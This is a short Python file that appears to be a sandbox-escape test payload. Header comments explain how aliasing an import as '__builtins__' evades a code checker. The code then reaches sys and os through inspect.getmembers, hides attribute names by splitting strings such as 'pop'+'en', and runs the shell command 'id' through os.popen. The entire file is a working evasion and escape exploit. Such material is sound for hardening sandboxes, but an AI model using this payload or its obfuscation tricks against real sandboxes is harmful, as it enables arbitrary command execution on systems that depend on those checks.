# source: CPython 3.11 Objects/frameobject.c _PyEval_BuiltinsFromGlobals (a function's builtins are globals['__builtins__'], a module allowed) ; classic pyjail '__builtins__' replacement write-ups; dataclasses.py 'import sys'; inspect.getmembers
# family: builtins swap: 'import M as __builtins__' (import alias is a dunder binding the check does not gate); defs made after it look up bare names in M's globals, which the check reads as unknown plain names
# goal: gets sys by bare name, sys.modules['os'] via getmembers, runs os.popen('id')
import dataclasses as __builtins__

def members(obj):
    return inspect.getmembers(obj)

def host():
    return sys

mods = dict(members(host()))["mod" + "ules"]
osm = mods["o" + "s"]
print(dict(members(osm))["pop" + "en"]("id").read())
